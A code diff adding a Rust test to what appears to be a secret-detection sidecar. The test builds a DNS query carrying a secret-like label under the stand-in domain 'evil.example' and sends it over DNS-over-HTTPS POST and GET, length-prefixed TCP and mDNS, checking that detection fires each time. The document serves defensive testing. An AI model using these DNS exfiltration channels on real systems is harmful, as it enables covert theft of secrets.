@@ -2,6 +2,8 @@
 
 use std::time::Duration;
 
+use base64::Engine as _;
+use base64::engine::general_purpose::URL_SAFE_NO_PAD;
 use hickory_proto::op::{Message, OpCode, Query, ResponseCode};
 use hickory_proto::rr::{Name, RecordType};
 use redroom_sidecar::search::Encoding;
@@ -148,6 +150,35 @@ async fn a_secret_in_another_name_of_a_message_is_found() {
     let hit = harness.hit(|hit| hit.host == "docs.redroom.test").await;
     let found: Vec<_> = hit.secrets.iter().map(|found| (found.encoding, found.part)).collect();
     assert_eq!(found, [(Encoding::CaseInsensitive, Part::Body)]);
+}
+
+#[tokio::test]
+async fn a_secret_in_a_name_is_found_whichever_way_its_message_goes() {
+    let harness = Harness::with(vec![]).await;
+    let message = query("platy.pus-7731.evil.example.", RecordType::TXT);
+    let posted = format!(
+        "POST /dns-query HTTP/1.1\r\nHost: dns.example\r\nContent-Type: application/dns-message\r\nContent-Length: {}\r\n\r\n",
+        message.len()
+    );
+    let asked = URL_SAFE_NO_PAD.encode(&message);
+    let asked = format!("GET /dns-query?ct&dns={asked} HTTP/1.1\r\nHost: dns.example\r\n\r\n").into_bytes();
+    let with_length = |message: &[u8]| [&(message.len() as u16).to_be_bytes()[..], message].concat();
+    let several = [with_length(&query("docs.redroom.test.", RecordType::A)), with_length(&message)].concat();
+    // As mDNS answers: a record, and no question.
+    let record = [&[0, 0, 0x84, 0, 0, 0, 0, 1, 0, 0, 0, 0][..], &message[12..], &[0, 0, 0, 9, 0, 0]].concat();
+    let ways = [([posted.as_bytes(), &message].concat(), Part::Body), (asked, Part::Target), (several, Part::Body)];
+    for (way, (said, part)) in ways.into_iter().enumerate() {
+        let mut stream = TcpStream::connect(harness.web).await.unwrap();
+        stream.write_all(&said).await.unwrap();
+        stream.shutdown().await.unwrap();
+        stream.read_to_end(&mut Vec::new()).await.unwrap();
+        let hit = harness.hit(|hit| hit.complete && hit.id == way as u64 + 1).await;
+        let found: Vec<_> = hit.secrets.iter().map(|found| (found.encoding, found.part)).collect();
+        assert_eq!(found, [(Encoding::CaseInsensitive, part)], "{hit:?}");
+    }
+    let socket = UdpSocket::bind("127.0.0.1:0").await.unwrap();
+    socket.send_to(&record, harness.dns).await.unwrap();
+    harness.hit(|hit| hit.id == 4 && hit.secrets.len() == 1).await;
 }
 
 #[tokio::test]
